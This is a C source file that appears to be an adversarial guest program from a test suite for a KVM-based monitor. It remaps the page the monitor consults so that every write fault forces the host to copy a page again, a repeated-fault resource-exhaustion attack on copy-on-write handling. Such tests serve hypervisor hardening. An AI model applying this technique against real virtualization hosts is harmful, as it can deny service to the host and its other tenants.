/* Makes the copy of a page fault again and again (--cow guest): it puts another page where the monitor finds what to store, so
 * that the entry of the page that it writes to stays as it was, and each fault has the host copy the page once more.
 */
#include "engine/kvm/monitor.h"
#include "kernel.h"

static uint64_t *entry_of(uint64_t gva)
{
	uint64_t table = current_root();

	for (unsigned shift = 39; shift > 12; shift -= 9)
		table = host_table(table)[gva >> shift & (ENTRIES - 1)] & UINT64_C(0xffffffffff000);
	return &host_table(table)[gva >> 12 & (ENTRIES - 1)];
}

__attribute__((used)) void attack(const struct nub_peb *peb, uint64_t seed)
{
	const uint64_t patch = (uint64_t)(int64_t)NUB_MONITOR_PATCH_DISP, page = take_page();
	uint64_t *entry = entry_of(patch);
	const uint64_t *tables = (const uint64_t *)(patch & ~(NUB_PAGE_SIZE - 1));

	(void)seed;
	/* The page of the CPU's tables, but for the patch: it is needed for every exception. */
	for (unsigned i = 0; i < (NUB_PAGE_SIZE - NUB_MONITOR_PATCH_SIZE) / sizeof(uint64_t); i++)
		in_scratch(page)[i] = tables[i];
	*entry = page | (*entry & ~UINT64_C(0xffffffffff000));
	__asm__ volatile("invlpg (%0)" : : "r"(patch) : "memory");
	*(volatile uint64_t *)peb->heap.gva = 1;
	halt(0);
}
